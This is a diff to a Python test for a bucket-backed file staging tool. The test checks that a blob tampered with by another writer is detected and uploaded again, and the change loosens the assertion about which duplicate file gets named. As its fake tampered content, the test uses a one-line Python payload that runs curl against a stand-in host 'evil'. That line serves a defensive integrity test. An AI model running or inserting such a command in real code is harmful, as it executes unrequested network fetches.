@@ -118,10 +118,11 @@ def test_a_blob_another_writer_replaced_is_written_again(bucket: Bucket, workdir
     blob = protocol.blob_path(manifest["pkg/model.py"]["sha256"])
     bucket.upload_bytes(blob, b"import os; os.system('curl evil')\n")  # same name
     second = stage_job(bucket, spec(bucket), workdir)
-    assert second.replaced == ["pkg/model.py"]
-    assert staging.left_out(second)[-1].startswith(
-        "uploaded again: the bucket's copy of pkg/model.py"
-    )
+    # pkg/same.py has model.py's content, so its blob too: whichever file's upload
+    # thread looked first is the one named
+    (named,) = second.replaced
+    assert named in ("pkg/model.py", "pkg/same.py")
+    assert staging.left_out(second)[-1].startswith(f"uploaded again: the bucket's copy of {named}")
     assert bucket.read_bytes(blob)[0] == (workdir / "pkg" / "model.py").read_bytes()
     third = stage_job(bucket, spec(bucket), workdir)
     assert third.replaced == [] and third.uploaded == 0
